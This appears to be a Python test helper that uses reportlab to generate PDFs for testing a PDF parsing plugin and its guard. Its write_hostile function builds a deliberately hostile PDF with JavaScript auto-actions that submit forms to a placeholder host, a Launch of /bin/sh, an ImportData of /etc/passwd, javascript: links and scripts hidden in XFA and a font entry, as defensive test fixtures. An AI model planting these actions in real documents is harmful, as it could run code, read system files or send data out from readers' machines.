"""Real PDFs for the tests, written by reportlab."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from io import BytesIO
from pathlib import Path
from random import Random
from typing import Any

from reportlab.lib.pagesizes import A4
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

from trueref_plugin.pdf.pdf_guard import GuardedPdfs
from trueref_plugin.pdf.pdf_parse import parse_pdf
from trueref_plugin.reading.parsed import ParsedPage

HTML = '<!doctype html><html lang="en"><head><title>Home</title></head><body><main><h1 id="home">Home</h1><p>{}</p></main></body></html>'

Draw = Callable[[Any, int], None]


def write_pdf(
    path: Path,
    pages: Sequence[Sequence[str]],
    *,
    title: str = "",
    password: str = "",
    draw: Draw | None = None,
    bookmarks: Sequence[tuple[int, str]] = (),
) -> Path:
    """A PDF with these lines on its pages; "" is an empty line. `draw` adds something to each page, given its number."""
    canvas = Canvas(str(path), pagesize=A4, invariant=1, encrypt=StandardEncryption(password) if password else None)
    if title:
        canvas.setTitle(title)
    for number, lines in enumerate(pages, 1):
        for page, name in bookmarks:
            if page == number:
                canvas.bookmarkPage(name)
                canvas.addOutlineEntry(name, name)
        text = canvas.beginText(72, 740)
        text.setFont("Helvetica", 11)
        for line in lines:
            text.textLine(line)
        canvas.drawText(text)
        if draw is not None:
            draw(canvas, number)
        canvas.showPage()
    canvas.save()
    return path


def picture(canvas: Any, _number: int) -> None:
    """Puts a picture on a page, as a scanner does."""
    from PIL import Image

    made = BytesIO()
    Image.new("RGB", (60, 80), "white").save(made, "PNG")
    canvas.drawImage(ImageReader(BytesIO(made.getvalue())), 0, 0, 595, 842)


def noise(canvas: Any, number: int) -> None:
    """Puts a picture on the first pages that no compression makes smaller: 150 KB each."""
    from PIL import Image

    if number <= 8:
        made = Image.frombytes("RGB", (224, 224), Random(number).randbytes(3 * 224 * 224))
        canvas.drawImage(ImageReader(made), 72, 200, 224, 224)


def framed(canvas: Any, number: int) -> None:
    """Puts a running title and a page number on a page."""
    canvas.setFont("Helvetica", 9)
    canvas.drawString(72, 810, "Acme Handbook")
    canvas.drawRightString(520, 810, f"Release 4 | {number}")
    canvas.drawString(280, 30, f"Page {number} of 9")


def parsed(path: Path) -> tuple[ParsedPage, tuple[str, ...]]:
    """What is read of a PDF, and the notes about it."""
    with GuardedPdfs() as guarded:
        opened = guarded.open(path.read_bytes())
        return parse_pdf(path.name, opened, list(guarded.pages(opened)))


def texts(path: Path) -> list[list[str]]:
    """The blocks of each of its pages."""
    page, _ = parsed(path)
    count = len(page.sections) - 1
    return [[block.text for block in page.blocks if block.section == number] for number in range(1, count + 1)]


def write_site(folder: Path, body: str = "Welcome.") -> Path:
    """A site with one page."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.html").write_text(HTML.format(body), encoding="utf-8")
    return folder


SCRIPT = "app.alert(1); window.hostile = 1; this.submitForm('http://elsewhere.invalid/form');"
ACTIONS = (
    f"/S /JavaScript /JS ({SCRIPT})",
    "/S /URI /URI (http://elsewhere.invalid/link)",
    "/S /URI /URI (javascript:window.hostile=1)",
    "/S /Launch /F (/bin/sh) /NewWindow true",
    "/S /GoToR /F (http://elsewhere.invalid/other.pdf) /D [0 /Fit] /NewWindow true",
    "/S /SubmitForm /F (http://elsewhere.invalid/form)",
    "/S /ImportData /F (/etc/passwd)",
)


def write_hostile(path: Path, line: str) -> Path:
    """A PDF that tries what one can on opening, on its page, and under every pointer, and whose font holds a script."""
    actions = [f"<< /Type /Action {action} >>" for action in ACTIONS]
    first = 7
    links = [
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A {action} /AA << /E {action} /PO {action} >> >>"
        for action in actions
    ]
    field = f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 612 792] /A {actions[0]} /AA << /PO {actions[0]} >> >>"
    annotations = " ".join(f"{number} 0 R" for number in range(first, first + len(links) + 1))
    drawn = f"BT /F1 12 Tf 72 700 Td ({line}) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {actions[0]} /AA << /WC {actions[0]} >> "
        f"/Names << /JavaScript << /Names [(a) {actions[0]}] >> >> "
        f"/AcroForm << /Fields [{first + len(links)} 0 R] /XFA 6 0 R >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> "
        f"/AA << /O {actions[3]} /C {actions[0]} >> /Annots [{annotations}] >>",
        f"<< /Length {len(drawn)} >> stream\n{drawn}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding "
        "/FontMatrix [0.001 0 0 0.001 0 (0\\); window.hostile=1; \\(0)] >>",
        "<< /Length 53 >> stream\n<xdp><script>window.hostile=1</script></xdp>           \nendstream",
        *links,
        field,
    ]
    path.write_bytes(_with_table(objects))
    return path


def _with_table(objects: Sequence[str]) -> bytes:
    """A PDF of these objects, numbered from 1."""
    body = b"%PDF-1.7\n"
    places: list[int] = []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\n"
    return body + f"{end}startxref\n{len(body)}\n%%EOF\n".encode("latin-1")
